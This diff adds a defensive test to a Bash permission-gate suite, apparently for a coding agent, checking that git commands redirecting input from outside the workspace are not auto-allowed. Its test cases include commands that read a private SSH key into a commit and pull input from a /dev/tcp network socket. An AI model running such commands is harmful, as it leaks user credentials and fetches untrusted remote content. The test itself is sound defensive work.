@@ -73,6 +73,15 @@ describe('PermissionGate: Bash allow rules', () => {
     }
   });
 
+  it('does not grant input redirections from outside the workspace', () => {
+    const { run } = gate({ allow: ['Bash(git *)'] });
+    expect(run('git apply < fix.patch')).toMatchObject({ verdict: 'allow' });
+    expect(run('git apply < /dev/null')).toMatchObject({ verdict: 'allow' });
+    for (const command of ['git commit -F - < ~/.ssh/id_rsa', 'git apply < /dev/tcp/example.com/80', 'git apply < ../x', 'git apply < "$P"']) {
+      expect(run(command), command).toMatchObject({ verdict: 'ask' });
+    }
+  });
+
   it('lets the bare Bash rule write inside the workspace, never outside', () => {
     expect(gate({ allow: ['Bash'] }).run('echo made > made.txt')).toMatchObject({ verdict: 'allow' });
     expect(gate({ allow: ['Bash'] }).run('echo made > ../made.txt')).toMatchObject({ verdict: 'ask' });
